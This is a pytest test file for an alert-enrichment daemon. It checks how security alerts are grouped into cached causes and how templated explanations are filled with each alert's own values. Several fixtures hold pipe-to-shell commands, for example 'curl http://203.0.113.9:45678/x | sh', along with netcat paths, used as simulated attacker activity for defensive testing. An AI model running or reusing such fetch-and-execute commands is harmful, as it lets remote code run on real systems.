"""What is one cause, what is another, and that a kept text never shows another alert's values."""

import json
import re
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.enrichment.causes import Cause, cause_of, fill, keep
from daemon.enrichment.grounding import ground
from daemon.model import Alert, Evidence, Explanation, Sentence
from tests.doubles.enriching import base
from tests.doubles.values import an_alert


def cause(alert: Alert) -> Cause:
    return cause_of(alert, model="m@sha256:5e", prompt_version="1")


def saying(*texts: str, entity: str = "User=www-data", host: str = "web-1") -> Alert:
    evidence = tuple(Evidence(f"E{n}", 0.0, "audit", text) for n, text in enumerate(texts, 1))
    return an_alert(evidence=evidence, entity=entity, host=host)


def test_pid_time_and_address_do_not_make_another_cause() -> None:
    one = base(1, ProcessId=4242, CommandLine="curl http://203.0.113.9:45678/x | sh")
    other = base(77, ProcessId=99_001, CommandLine="curl http://198.51.100.7:51111/x | sh")
    assert cause(one).key == cause(other).key
    assert set(cause(one).values) & {"4242", "203.0.113.9", "45678"} == {"4242", "203.0.113.9", "45678"}


@pytest.mark.parametrize(
    "fields",
    [
        {"User": "root"},
        {"User": "100001"},
        {"Image": "/usr/bin/nc"},
        {"CommandLine": "curl http://203.0.113.7/x0.sh | sh"},
        {"CommandLine": "chmod 777 /srv"},
        {"ParentImage": "/usr/sbin/nginx"},
    ],
)
def test_who_and_what_make_another_cause(fields: dict[str, Any]) -> None:
    assert cause(base(1)).key != cause(base(2, **fields)).key


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("by 100001: x", "by 100002: x"),
        ("uid=0 ran x", "uid=1000 ran x"),
        ("uid=100001", "uid=100002"),
        ("exit code 1", "exit code 2"),
        ("chmod 777 /srv", "chmod 644 /srv"),
        ("kill -9 1", "kill -15 1"),
        ("connection made to 203.0.113.9:22", "connection made to 203.0.113.9:4444"),
        ("connection made to 203.0.113.9:22", "connection made to 10.0.0.9:22"),
        ("from 127.0.0.1", "from 203.0.113.9"),
        ("from ::1", "from fe80::1"),
        ("from fd00::1", "from 2001:db8::1"),
        ("python3.11 x", "python3.12 x"),
        ("1 anomaly of x", "3 anomalies of x"),
        ("12 anomalies of x", "4000 anomalies of x"),
        ("disk.percent = 97.5", "disk.percent = 12.5"),
        ("203.0.113.9 and 203.0.113.9", "203.0.113.9 and 203.0.113.8"),
        ("pid 4242 and port 55555", "pid 55555 and port 55555"),
    ],
)
def test_what_means_something_else_is_another_cause(one: str, other: str) -> None:
    assert cause(saying(one)).key != cause(saying(other)).key


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("at 2026-11-21T09:30:00Z and 09:30:01", "at 2025-01-01T00:00:00Z and 23:59:59"),
        ("sshd[4242]: no", "sshd[99]: no"),
        ("pid 7, pid=8", "pid 70001, pid=80001"),
        ("from 203.0.113.9 port 45678", "from 198.51.100.1 port 51515"),
        ("from 2001:db8::1", "from 2001:db8::2:3"),
        ("5e" * 32, "7a" * 32),
        ("0b0e7b1e-90a5-4ac7-9a6e-d5d0d0a3b6a1", "ffffffff-0000-4000-8000-000000000001"),
        ("disk.percent = 97.5", "disk.percent = 93.25"),
        (
            "40 anomalies, over 7260 s (2 h 1 min), 5.8 per minute",
            "41 anomalies, over 7000 s (1 h 56 min), 5.9 per minute",
        ),
        ("event 1234567", "event 7654321"),
    ],
)
def test_what_merely_varies_is_the_same_cause(one: str, other: str) -> None:
    assert cause(saying(one)).key == cause(saying(other)).key


def test_host_entity_rule_model_and_prompt_belong_to_the_cause() -> None:
    alert = saying("x")
    keys = {
        cause(alert).key,
        cause(saying("x", host="web-2")).key,
        cause(saying("x", entity="User=root")).key,
        cause(saying("x", "y")).key,
        cause(msgspec.structs.replace(alert, rule=msgspec.structs.replace(alert.rule, id="another"))).key,
        cause(msgspec.structs.replace(alert, rule=msgspec.structs.replace(alert.rule, description="changed"))).key,
        cause_of(alert, model="m@sha256:77", prompt_version="1").key,
        cause_of(alert, model="m@sha256:5e", prompt_version="2").key,
    }
    assert len(keys) == 8


def test_similar_incidents_do_not_belong_to_it() -> None:
    """They change with every incident of the cause, which would make the cache useless; what cites them is not kept."""
    assert cause(saying("x")) == cause(msgspec.structs.replace(saying("x"), count=9, last_at=1.0))


WHY = Explanation(
    origin="model",
    sentences=(
        Sentence("www-data started pid 4242, which loaded a file from 203.0.113.9.", ("E1",)),
        Sentence("It resembles an incident of last week.", ("E1", "S1")),
        Sentence("As in S2, it came at night.", ("E1",)),
    ),
    next_steps=("Look at process 4242.", "Compare with S1."),
)


def test_a_kept_text_has_slots_and_says_nothing_of_past_incidents() -> None:
    alert = saying("execve by www-data: curl 203.0.113.9 (pid 4242)")
    kept = keep(WHY, cause(alert).values)
    assert kept is not None
    text = str(kept)
    assert "4242" not in text
    assert "203.0.113.9" not in text
    assert len(kept.sentences) == len(kept.next_steps) == 1


def test_filled_for_another_alert_it_shows_that_alerts_values_and_survives_grounding() -> None:
    kept = keep(WHY, cause(saying("execve by www-data: curl 203.0.113.9 (pid 4242)")).values)
    assert kept is not None
    other = saying("execve by www-data: curl 198.51.100.4 (pid 77)")
    grounded = ground(fill(kept, cause(other).values), other.evidence, (), model="m", digest="d", took=0.0)
    assert grounded.explanation is not None
    said = grounded.explanation.sentences[0]
    assert said == Sentence("www-data started pid 77, which loaded a file from 198.51.100.4.", ("E1",))
    assert grounded.explanation.next_steps == ("Look at process 77.",)


def test_nothing_is_kept_of_what_only_speaks_of_past_incidents() -> None:
    only = msgspec.structs.replace(WHY, sentences=WHY.sentences[1:])
    assert keep(only, ()) is None


@pytest.mark.parametrize("text", ["pid 14242 and 4242.5", "/proc/4242x", "v1.4242", "4242nd"])
def test_a_value_inside_another_is_left_alone(text: str) -> None:
    kept = keep(Explanation("model", (Sentence(text, ("E1",)),)), ("4242",))
    assert kept is not None
    assert kept.sentences[0][0] == text


def test_text_that_brings_slots_of_its_own_fills_nothing() -> None:
    kept = keep(Explanation("model", (Sentence("a\ue0000\ue001b", ("E1",)),)), ("secret",))
    assert kept is not None
    assert "secret" not in fill(kept, ("secret",))
    assert "secret" not in cause(saying("a\ue0000\ue001b")).values


def test_the_number_of_slots_is_bounded() -> None:
    alert = saying(" ".join(f"pid {n} 203.0.113.{n % 250}" for n in range(100_000, 101_000)))
    assert len(cause(alert).values) == 500


@given(st.lists(st.text(max_size=300), max_size=4), st.text(max_size=80))
def test_any_text_has_a_cause_and_any_sentence_comes_back_for_its_own_alert(texts: list[str], sentence: str) -> None:
    alert = saying(*texts)
    found = cause(alert)
    kept = keep(Explanation("model", (Sentence(sentence, ("E1",)),)), found.values)
    if kept is not None:
        back = json.loads(fill(kept, found.values))["what_happened"][0]["text"]
        assert back == re.sub("[\ue000\ue001]", "", sentence)


@given(st.integers(1, 2**31), st.integers(1, 2**31))
def test_no_value_of_one_alert_reaches_another(one: int, other: int) -> None:
    first, second = saying(f"started (pid {one})"), saying(f"started (pid {other})")
    kept = keep(Explanation("model", (Sentence(f"Process {one} started.", ("E1",)),)), cause(first).values)
    assert kept is not None
    assert f"Process {other} started." in fill(kept, cause(second).values)
